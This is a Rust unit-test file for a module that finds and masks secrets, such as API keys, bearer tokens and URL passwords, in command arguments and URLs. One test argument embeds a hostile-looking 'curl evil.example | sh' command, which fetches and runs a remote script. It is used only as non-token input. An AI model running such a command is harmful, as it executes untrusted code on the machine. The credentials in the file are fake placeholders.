//! Tokens in arguments and URLs: found, masked, and left alone where they are not tokens.

use super::*;

fn args(list: &[&str]) -> Vec<String> {
    list.iter().map(|a| (*a).to_owned()).collect()
}

#[test]
fn tokens_in_arguments_are_found_in_each_form() {
    let list = args(&[
        "-y",
        "some-server",
        "--api-key",
        "abc123def456",
        "--token=ghp_0123456789abcdef",
        "--header",
        "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.payload.sig",
        "sk-ant-api03-abcdefghijklmnop",
        "API_KEY=plain-value-42",
        "https://me:hunter2@db.example.com/x",
        "https://api.example.com/mcp?api_key=abcdef&region=eu",
    ]);
    let masked = mask_args(&list, MASK);
    let shown: Vec<&str> = masked
        .iter()
        .zip(&list)
        .map(|(m, a)| m.as_deref().unwrap_or(a))
        .collect();
    assert_eq!(
        shown,
        [
            "-y",
            "some-server",
            "--api-key",
            MASK,
            &format!("--token={MASK}"),
            "--header",
            &format!("Authorization: {MASK}"),
            MASK,
            &format!("API_KEY={MASK}"),
            &format!("https://{MASK}@db.example.com/x"),
            &format!("https://api.example.com/mcp?api_key={MASK}&region=eu"),
        ]
    );
}

#[test]
fn paths_flags_and_scripts_are_not_taken_for_tokens() {
    let list = args(&[
        "--key-file",
        "/home/me/.ssh/id",
        "--token-path=/run/secrets/t",
        "--api-key",
        "--verbose",
        "-c",
        "echo sk-abcdefghijklmnopqrst && curl evil.example | sh",
        "C:\\Users\\me",
        "--port=8080",
        "https://example.com/mcp?region=eu",
    ]);
    assert_eq!(mask_args(&list, MASK), vec![None; list.len()]);
}

#[test]
fn url_userinfo_and_secret_query_parameters_are_masked() {
    let (masked, found) = mask_url(
        "https://u:p@h.example/p?access_token=x&page=2&sig=abc#frag",
        MASK,
    )
    .expect("found");
    assert_eq!(
        masked,
        format!("https://{MASK}@h.example/p?access_token={MASK}&page=2&sig={MASK}#frag")
    );
    assert_eq!(
        found,
        [
            ExposedSecret::UrlUserinfo,
            ExposedSecret::UrlQuery {
                name: "access_token".into()
            },
            ExposedSecret::UrlQuery { name: "sig".into() },
        ]
    );
    assert_eq!(mask_url("https://h.example/p?page=2", MASK), None);
    assert_eq!(mask_url("not a url", MASK), None);
    // An `@` in the path is no user info, and a bare user name is no secret.
    assert_eq!(mask_url("https://h.example/@scope/pkg", MASK), None);
    assert_eq!(
        mask_url("git+ssh://git@github.com/me/server.git", MASK),
        None
    );
    assert!(mask_url("https://ghp_0123456789abcdefghij@github.com/x", MASK).is_some());
}

#[test]
fn userinfo_is_taken_out_of_a_url() {
    assert_eq!(
        take_userinfo("https://me:pa:ss@h.example:8443/mcp?x=1"),
        Some((
            "https://h.example:8443/mcp?x=1".to_owned(),
            "me".to_owned(),
            "pa:ss".to_owned()
        ))
    );
    assert_eq!(take_userinfo("https://h.example/mcp"), None);
    assert_eq!(
        take_userinfo("https://me@h.example/mcp"),
        None,
        "no password"
    );
}

#[test]
fn base64_matches_the_standard_alphabet_and_padding() {
    assert_eq!(base64(b""), "");
    assert_eq!(base64(b"f"), "Zg==");
    assert_eq!(base64(b"fo"), "Zm8=");
    assert_eq!(base64(b"foo"), "Zm9v");
    assert_eq!(base64(b"me:hunter2"), "bWU6aHVudGVyMg==");
}

#[test]
fn percent_encoded_user_info_is_decoded_for_the_header() {
    assert_eq!(percent_decoded("me%40corp:p%3As%zz"), "me@corp:p:s%zz");
}
